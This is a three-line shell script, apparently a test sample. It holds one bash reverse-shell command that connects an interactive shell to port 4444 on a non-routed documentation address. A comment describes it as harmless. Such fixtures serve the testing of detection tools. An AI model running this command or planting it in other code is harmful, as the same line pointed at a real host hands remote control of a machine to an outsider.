#!/bin/sh
# Harmless test sample: a reverse-shell one-liner aimed at TEST-NET-1 (never routed).
bash -i >& /dev/tcp/192.0.2.10/4444 0>&1
